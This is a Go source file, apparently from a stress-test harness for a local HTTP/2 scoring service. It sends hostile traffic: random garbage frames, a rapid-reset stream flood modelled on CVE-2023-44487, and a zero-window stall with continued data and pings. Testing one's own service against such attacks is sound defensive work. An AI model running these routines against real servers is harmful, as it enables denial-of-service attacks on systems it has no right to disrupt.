package main

import (
	"bytes"
	"io"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// http2Hello opens HTTP/2 without TLS.
func (a *attack) http2Hello(settings ...http2.Setting) *http2.Framer {
	a.send(http2.ClientPreface)
	framer := http2.NewFramer(a, a.reader)
	framer.WriteSettings(settings...)
	return framer
}

// http2Header returns the header of a stream of lines.
func http2Header() []byte {
	var header bytes.Buffer
	encoder := hpack.NewEncoder(&header)
	for _, field := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":authority", "localhost"}, {":path", "/v1/score"}, {"content-type", plainType}} {
		encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]}) // to memory
	}
	return header.Bytes()
}

// http2Garbage wants the service to close the connection.
func (a *attack) http2Garbage() error {
	a.http2Hello()
	a.send(a.bytes(1 + a.random.IntN(10_000)))
	return a.closed()
}

// http2Resets opens streams and takes each back at once, as CVE-2023-44487 does.
func (a *attack) http2Resets() error {
	framer, header := a.http2Hello(), http2Header()
	go io.Copy(io.Discard, a.reader) // it ends when the connection does
	for i := range uint32(10_000) {
		err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*i + 1, BlockFragment: header, EndHeaders: true})
		if err == nil {
			err = framer.WriteRSTStream(2*i+1, http2.ErrCodeCancel)
		}
		if err != nil {
			return nil
		}
	}
	return nil
}

// http2NoWindow opens streams with an empty window, so that no verdict can be sent, and goes on
// sending lines.
func (a *attack) http2NoWindow() error {
	framer, header := a.http2Hello(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}), http2Header()
	go io.Copy(io.Discard, a.reader) // it ends when the connection does
	lines := []byte(a.linesOf(200))
	for i := range uint32(50) {
		framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*i + 1, BlockFragment: header, EndHeaders: true})
		framer.WriteData(2*i+1, false, lines)
	}
	for end := time.Now().Add(3 * a.stall); time.Now().Before(end) && a.ctx.Err() == nil; a.pause(100 * time.Millisecond) {
		if framer.WritePing(false, [8]byte{}) != nil {
			break
		}
	}
	return nil
}
